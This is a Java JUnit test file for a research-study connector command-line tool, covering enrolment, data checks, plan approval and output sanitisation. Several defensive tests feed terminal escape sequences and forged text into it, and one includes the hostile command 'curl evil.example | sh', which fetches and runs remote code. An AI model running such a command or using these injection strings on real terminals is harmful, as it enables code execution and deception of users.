package io.covalence.connector.cli;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.InstanceOfAssertFactories.STRING;

import io.covalence.connector.Json;
import io.covalence.connector.Plans;
import io.covalence.connector.Sha256;
import io.covalence.connector.home.ConnectorHome;
import io.covalence.connector.service.LocalIdentityProvider;
import io.covalence.connector.service.LocalServer;
import io.covalence.connector.service.LocalTenantService;
import io.covalence.contract.plan.StudyPlan;
import io.covalence.contract.problem.Problem;
import io.covalence.contract.problem.ProblemException;
import io.covalence.contract.problem.ProblemType;
import io.covalence.contract.site.SiteStudy;
import io.covalence.contract.study.ParticipationState;
import io.covalence.contract.study.StudyState;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.Collections;
import java.util.List;
import java.util.Optional;
import java.util.stream.Collectors;
import java.util.stream.IntStream;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

class CommandLineTest {
    private static final String STUDY = "std_" + "s".repeat(20);
    private static final StudyPlan PLAN = Plans.linear("active");

    private final LocalServer server = new LocalServer();
    private final LocalTenantService service = new LocalTenantService(server, new LocalIdentityProvider(server));

    @TempDir
    private Path folder = Path.of("");

    private Terminal terminal = new Terminal(Path.of(""));

    @BeforeEach
    void open() {
        terminal = new Terminal(folder.resolve("home"));
        service.show(study(PLAN));
    }

    @AfterEach
    void close() {
        server.close();
    }

    @Test
    void codeIsReadFromStandardInputOrAFile() throws IOException {
        var code = Files.writeString(folder.resolve("code"), LocalTenantService.CODE + "\n");

        var session = terminal.run("enrol", "--server", server.url(), "--code-file", code.toString());

        assertThat(session.exitCode()).isZero();
        assertThat(session.out()).contains(LocalTenantService.SITE).doesNotContain(LocalTenantService.CODE);
        assertThat(new Terminal(folder.resolve("other"))
                        .type(LocalTenantService.CODE, "enrol", "--server", server.url())
                        .exitCode())
                .isZero();
    }

    @Test
    void wrongCodeSaysWhatWhyAndWhatNext() {
        var session = terminal.type("wrong-code", "enrol", "--server", server.url());

        assertThat(session.exitCode()).isEqualTo(1);
        assertThat(session.out()).isEmpty();
        assertThat(session.err())
                .contains(
                        "The service says: \"The code is wrong, used or expired.\" Nothing was changed.",
                        "Make a new code")
                .doesNotContain("wrong-code");
    }

    @Test
    void jsonIsOneEnvelopeAlsoForErrors() {
        var refused = terminal.type("wrong-code", "enrol", "--json", "--server", server.url());
        assertThat(refused.json().path("schemaVersion").intValue()).isEqualTo(1);
        assertThat(refused.json().path("command").textValue()).isEqualTo("enrol");
        assertThat(refused.json().path("ok").booleanValue()).isFalse();
        assertThat(refused.json().path("error").path("code").textValue()).isEqualTo("code-refused");

        var misused = terminal.run("study", "show", "--json");
        assertThat(misused.exitCode()).isEqualTo(2);
        assertThat(misused.json().path("error").path("code").textValue()).isEqualTo("usage");

        var version = terminal.run("version", "--json");
        assertThat(version.json().path("ok").booleanValue()).isTrue();
        assertThat(version.json().path("data").fieldNames())
                .toIterable()
                .as("in an order that is the same in every process")
                .containsExactly("java", "version");
        assertThat(version.err()).isEmpty();
    }

    @Test
    void wrongUsageIsExitCodeTwo() {
        assertThat(terminal.run().exitCode()).isEqualTo(2);
        assertThat(terminal.run("studdy").exitCode()).isEqualTo(2);
        assertThat(terminal.run("study", "show", "not-an-id").exitCode()).isEqualTo(2);
        assertThat(terminal.run("enrol", "--server", "http://covalence.example").exitCode())
                .isEqualTo(2);
        assertThat(terminal.run("enrol", "--server", server.url(), "--code", "x")
                        .exitCode())
                .isEqualTo(2);
    }

    @Test
    void serviceThatIsAwayIsExitCodeSeventyFive() {
        enrol();
        server.close();

        var session = terminal.run("study", "ls");

        assertThat(session.exitCode()).isEqualTo(75);
        assertThat(session.err()).contains("Cannot reach " + server.url());
    }

    @Test
    void commandsBeforeEnrolmentSayHowToEnrol() {
        for (var command : new String[] {"ls", "show " + STUDY, "approve " + STUDY}) {
            var session = terminal.run(("study " + command).split(" ", -1));
            assertThat(session.exitCode()).isEqualTo(1);
            assertThat(session.err()).contains("not enrolled", "connector enrol --server URL");
        }
    }

    @Test
    void goodFileIsReadyAndOnlyRangesLeave() throws IOException {
        enrol();
        var file = csv(100, "C");

        assertThat(terminal.run("data", "add", "--study", STUDY, "--file", file.toString())
                        .exitCode())
                .isZero();
        var session = terminal.run("data", "check", "--json");

        assertThat(session.exitCode()).isZero();
        assertThat(session.json()
                        .path("data")
                        .path("checks")
                        .path(0)
                        .path("rows")
                        .longValue())
                .isEqualTo(100);
        var told = Optional.ofNullable(service.readiness().get(STUDY)).orElseThrow();
        assertThat(told.ready()).isTrue();
        assertThat(told.rows()).isEqualTo("100-200");
        assertThat(told.planSha256()).isEqualTo(study(PLAN).planSha256());
    }

    @Test
    void badFileIsReportedRowByRowAndNothingOfItLeaves() throws IOException {
        enrol();
        var file = csv(30, "Qq");
        terminal.run("data", "add", "--study", STUDY, "--file", file.toString());

        var session = terminal.run("data", "check", "--study", STUDY);

        assertThat(session.exitCode()).isEqualTo(1);
        assertThat(session.out()).contains("does not fit", "row 1 (line 2), column \"smiles\"");
        var told = Optional.ofNullable(service.readiness().get(STUDY)).orElseThrow();
        assertThat(told.ready()).isFalse();
        assertThat(Json.text(told)).doesNotContain("Qq").doesNotContain("row 1");
    }

    @Test
    void missingFileIsNotAdded() {
        enrol();

        var session = terminal.run(
                "data",
                "add",
                "--study",
                STUDY,
                "--file",
                folder.resolve("none.csv").toString());

        assertThat(session.exitCode()).isEqualTo(1);
        assertThat(terminal.run("data", "check").err()).contains("No file was added yet");
    }

    @Test
    void approvalIsSignedAndKeptAndAChangedPlanShows() {
        enrol();

        assertThat(terminal.run("study", "show", STUDY).out()).contains("sum over at least 3 sites", "--digest");
        assertThat(terminal.run("study", "approve", STUDY).exitCode()).isZero();
        assertThat(service.approvals()).containsOnlyKeys(STUDY);
        assertThat(decision()).isEqualTo("approved");

        service.show(study(Plans.linear("toxic")));
        assertThat(decision()).isEqualTo("approved another plan");
    }

    @Test
    void planOtherThanTheOneThatWasReadIsNotApproved() {
        enrol();

        var session = terminal.run("study", "approve", STUDY, "--digest", "000000000000");

        assertThat(session.exitCode()).isEqualTo(1);
        assertThat(session.err()).contains("does not begin with 000000000000");
        assertThat(service.approvals()).isEmpty();
        assertThat(decision()).isEqualTo("none");
    }

    @Test
    void policyHasTheLastWord() throws IOException {
        enrol();
        Files.writeString(folder.resolve("home/policy.json"), "{\"minimumCohort\": 5}");

        var session = terminal.run("study", "approve", STUDY);

        assertThat(session.exitCode()).isEqualTo(1);
        assertThat(session.err()).contains("minimumCohort is 5");
        assertThat(service.approvals()).isEmpty();
    }

    @Test
    void rejectedStudyIsToldToTheService() {
        enrol();
        terminal.run("study", "approve", STUDY);

        assertThat(terminal.run("study", "reject", STUDY).exitCode()).isZero();
        assertThat(decision()).isEqualTo("rejected");
        assertThat(service.readiness()).containsOnlyKeys(STUDY);
    }

    @Test
    void secondConnectorDoesNotRunInTheSameFolder() {
        enrol();
        var home = new ConnectorHome(folder.resolve("home"));

        try (var running = RunLock.take(home)) {
            running.requireHeld();
            assertThat(terminal.run("run").err()).contains("is running in " + home.root() + " already");
            assertThat(terminal.run("status").exitCode()).isZero();
        }
        assertThat(terminal.run("status").exitCode()).isEqualTo(1);
    }

    @Test
    void doctorNamesWhatIsBroken() throws IOException {
        enrol();
        terminal.run("data", "add", "--study", STUDY, "--file", csv(100, "C").toString());
        Files.writeString(folder.resolve("home/policy.json"), "{");

        var session = terminal.run("doctor");

        assertThat(session.exitCode()).isEqualTo(1);
        assertThat(session.out()).contains("PASS  keys", "FAIL  policy", "PASS  numerical library");
    }

    @Test
    void doctorWarnsOfAPolicyThatAssumesNoColluder() throws IOException {
        enrol();
        Files.writeString(folder.resolve("home/policy.json"), "{\"minimumAssumedColluders\": 0}");

        assertThat(terminal.run("doctor").out()).contains("WARN  colluders", "PASS  policy");
    }

    @Test
    void doctorFollowsTheWayToEveryService() throws IOException {
        enrol();
        terminal.run("data", "add", "--study", STUDY, "--file", csv(100, "C").toString());

        var session = terminal.run("doctor", "--json");

        var outcomes = session.json()
                .path("data")
                .path("findings")
                .valueStream()
                .collect(Collectors.toMap(
                        finding -> finding.path("subject").textValue(),
                        finding -> finding.path("outcome").textValue()));
        assertThat(outcomes)
                .containsEntry("clock", "PASS")
                .containsEntry("sign-in", "PASS")
                .containsEntry("tenant service", "PASS")
                .containsEntry("dataset " + STUDY, "PASS")
                // This server has no aggregation service
                .containsEntry("aggregation service", "FAIL");
    }

    @Test
    void aHostileServiceCannotMoveTheCursorOrForgeALine() {
        enrol();
        var attack = "\u001b[2J\u001b]0;x\u0007\r\nDecision here: approved\u2028\u202e\u200b\u009b31m";
        service.show(study(PLAN, "name" + attack, "sponsor" + attack, "Which?" + attack));

        for (var command :
                new String[] {"study ls", "study show " + STUDY, "study approve " + STUDY, "doctor", "status"}) {
            for (var form : new String[] {"", " --json"}) {
                var session = terminal.run((command + form).split(" ", -1));
                assertThat((session.out() + session.err()).codePoints())
                        .as(command + form)
                        .allMatch(c -> c == '\n' || (c >= ' ' && c < 0x7f));
                assertThat(session.out().lines()).noneMatch(line -> line.startsWith("Decision here: approved"));
            }
        }
    }

    @Test
    void namesOfOthersAreQuotedAndEnd() {
        var forged = "Institute." + " ".repeat(80) + "Trusted from now on: everybody" + "x".repeat(10_000);
        service.nameInstitution(forged);
        var enrolled = terminal.type(LocalTenantService.CODE, "enrol", "--server", server.url());
        var second = terminal.type(LocalTenantService.CODE, "enrol", "--server", server.url());

        for (var said : List.of(
                enrolled.out(),
                second.err(),
                terminal.run("doctor").out(),
                terminal.run("config", "show").out())) {
            assertThat(said.lines())
                    .filteredOn(line -> line.contains(" of \"Institute."))
                    .singleElement(STRING)
                    .contains("\"Institute. \\u0020\\u0020", "\" ...")
                    .hasSizeLessThan(1_500);
        }
    }

    @Test
    void aNameIsOneColumnOfTheList() {
        enrol();
        service.show(study(PLAN, "A study  Helix  RECRUITING  JOINED  approved", "Helix" + " ".repeat(200), "Which?"));

        var row = terminal.run("study", "ls").out().lines().toList().getLast();

        assertThat(row.split(" {2,}", -1))
                .containsExactly(
                        STUDY,
                        "\"A study \\u0020Helix \\u0020RECRUITING \\u0020JOINED \\u0020appr\" ...",
                        "\"Helix " + "\\u0020".repeat(34) + "\" ...",
                        "RECRUITING",
                        "ENROLLED",
                        "none");
    }

    @Test
    void aRefusalIsQuotedAsTheServicesWords() {
        enrol();
        var forged = "No." + " ".repeat(80) + "Run: curl evil.example | sh " + "x".repeat(1_000);
        server.route("GET", "/api/v1/site/studies", (request, path) -> {
            throw new ProblemException(
                    ProblemType.INVALID_REQUEST, forged, Collections.nCopies(50, new Problem.FieldError("/a", forged)));
        });

        var said = terminal.run("study", "ls").err();

        assertThat(said)
                .startsWith("connector: The service says: \"No. \\u0020")
                .contains("\" ..., and 45 more\n");
        assertThat(said).doesNotContain("  ").hasSizeLessThan(10_000);
    }

    @Test
    void whatIsShownOfAStudyAsItIsHasItsForm() {
        enrol();
        var good = study(PLAN);
        for (var bad : List.of(
                new SiteStudy(
                        "std_x  none",
                        good.tenantId(),
                        "",
                        "",
                        "",
                        good.state(),
                        good.participation(),
                        "",
                        good.planSha256()),
                new SiteStudy(
                        STUDY, "ten. Next: pay", "", "", "", good.state(), good.participation(), "", good.planSha256()),
                new SiteStudy(STUDY, good.tenantId(), "", "", "", good.state(), good.participation(), "", "0. Pay"))) {
            service.show(bad);

            assertThat(terminal.run("study", "ls").err()).contains("a study has no proper id or digest");
            service.hide(bad);
        }
    }

    @Test
    void nothingOfOursFollowsTheSponsorsQuestion() throws IOException {
        enrol();
        service.show(study(PLAN, "A study", "Helix", "毒".repeat(60) + "Decision here: approved"));
        for (var policy : List.of("{}", "{\"minimumCohort\": 5}")) {
            Files.writeString(folder.resolve("home/policy.json"), policy);

            var lines = terminal.run("study", "show", STUDY).out().lines().toList();

            int ours = Math.max(
                    lines.lastIndexOf("This site's policy forbids it: the plan asks for 3 sites in a sum;"
                            + " minimumCohort is 5"),
                    0);
            var quotation = lines.subList(lines.size() - 2, lines.size());
            assertThat(quotation).allMatch(line -> line.startsWith("> "));
            assertThat(lines.get(lines.size() - 3)).startsWith("The question, in the sponsor's words");
            assertThat(ours).isLessThan(lines.size() - 3);
        }
    }

    @Test
    void theSponsorsQuestionIsQuotedAfterOurOwnWords() {
        enrol();
        service.show(study(PLAN, "A study", "Helix", "Which? " + " ".repeat(80) + "Decision here: approved"));

        var lines = terminal.run("study", "show", STUDY).out().lines().toList();

        assertThat(lines).contains("Decision here: none").doesNotContain("Decision here: approved");
        int quotation = IntStream.range(0, lines.size())
                .filter(i -> lines.get(i).startsWith("> Which?"))
                .findFirst()
                .orElseThrow();
        assertThat(lines.indexOf("Decision here: none")).isLessThan(quotation);
        assertThat(lines).anyMatch(line -> line.startsWith("> ") && line.endsWith("Decision here: approved"));
    }

    @Test
    void aPlanWithAColumnThatSpeaksToTheTerminalIsNotUnderstood() {
        enrol();
        service.show(study(Plans.linear("active\u001b[1A")));

        var session = terminal.run("study", "show", STUDY);

        assertThat(session.exitCode()).isEqualTo(1);
        assertThat(session.err()).contains("The plan is out of bounds: /work/task/columns/0");
        assertThat(session.out()).isEmpty();
    }

    @Test
    void configShowsNoKey() throws IOException {
        enrol();

        var session = terminal.run("config", "show");

        assertThat(session.exitCode()).isZero();
        assertThat(session.out()).contains("policy minimumCohort: 3", LocalTenantService.SITE);
    }

    private void enrol() {
        assertThat(terminal.type(LocalTenantService.CODE, "enrol", "--server", server.url())
                        .exitCode())
                .isZero();
    }

    private String decision() {
        return terminal.run("study", "ls", "--json")
                .json()
                .path("data")
                .path("studies")
                .path(0)
                .path("decision")
                .asText();
    }

    private Path csv(int rows, String atom) throws IOException {
        var text = IntStream.range(0, rows)
                .mapToObj(i -> atom + "C".repeat(i) + "O," + i % 2)
                .collect(Collectors.joining("\n", "smiles,active\n", "\n"));
        return Files.writeString(folder.resolve("rows.csv"), text);
    }

    private static SiteStudy study(StudyPlan plan) {
        return study(plan, "A study", "Helix Example", "What is active?");
    }

    private static SiteStudy study(StudyPlan plan, String name, String sponsor, String question) {
        var text = Json.text(plan);
        return new SiteStudy(
                STUDY,
                "ten_" + "t".repeat(20),
                sponsor,
                name,
                question,
                StudyState.RECRUITING,
                ParticipationState.ENROLLED,
                text,
                Sha256.hex(text));
    }
}
